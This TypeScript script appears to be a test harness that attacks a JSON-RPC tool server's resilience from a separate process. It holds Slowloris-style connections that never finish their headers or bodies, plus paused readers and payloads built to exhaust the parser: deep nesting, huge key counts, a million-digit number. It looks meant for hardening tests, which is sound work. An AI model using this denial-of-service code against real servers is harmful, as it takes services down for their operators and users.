// Callers that mean harm, from a process of their own: heads and bodies that never end, readers that never read, and messages made
// to exhaust whoever reads them. Run as `node attack.ts <url> <token>`; goes on until its input ends.
import { connect, type Socket } from 'node:net';
import { modernRequest } from '../tests/e2e/modern-call.ts';

const [address = '', token = ''] = process.argv.slice(2);
const url = new URL(address);
const MANY = 200;

const line = `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\n`;
const authorized = `${line}Authorization: Bearer ${token}\r\nContent-Type: application/json\r\n`;
const sockets = new Set<Socket>();

/** Opens another in the place of one that was cut off. */
function keep(start: string, isReader: boolean): void {
  const socket = connect(Number(url.port), url.hostname);
  sockets.add(socket);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    sockets.delete(socket);
    setTimeout(() => keep(start, isReader), 250);
  });
  if (isReader) socket.pause();
  else socket.resume();
  socket.write(start);
}

const { headers, body } = modernRequest({ token, tool: 'call', args: { mib: 64 } });
const large = Object.entries(headers as Record<string, string>).map(
  ([name, value]) => `${name}: ${value}\r\n`,
);
for (let n = 0; n < MANY; n += 1) {
  keep(`${line}X-Slow: `, false);
  keep(`${authorized}Content-Length: 1000000\r\n\r\n{`, false);
}
for (let n = 0; n < 40; n += 1)
  keep(`${line}${large.join('')}Content-Length: ${body.length}\r\n\r\n${body}`, true);
setInterval(() => {
  for (const socket of sockets) if (socket.writable && !socket.isPaused()) socket.write('x');
}, 1_000);

const HOSTILE = [
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":${'['.repeat(200_000)}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{${Array.from({ length: 250_000 }, (_, n) => `"k${n}":1`).join(',')}}}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{"n":${'9'.repeat(1_000_000)}}}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{"s":"${'\\u0041'.repeat(500_000)}`,
];
let sent = 0;
setInterval(() => {
  const text = HOSTILE[sent % HOSTILE.length] ?? '';
  sent += 1;
  fetch(url, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${token}`,
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
    },
    body: text,
  }).then(
    async (response) => response.text(),
    () => '',
  );
}, 200);

process.stdout.write(`${JSON.stringify({ ready: true, url: address })}\n`);
process.stdin.resume().on('end', () => process.exit(0));
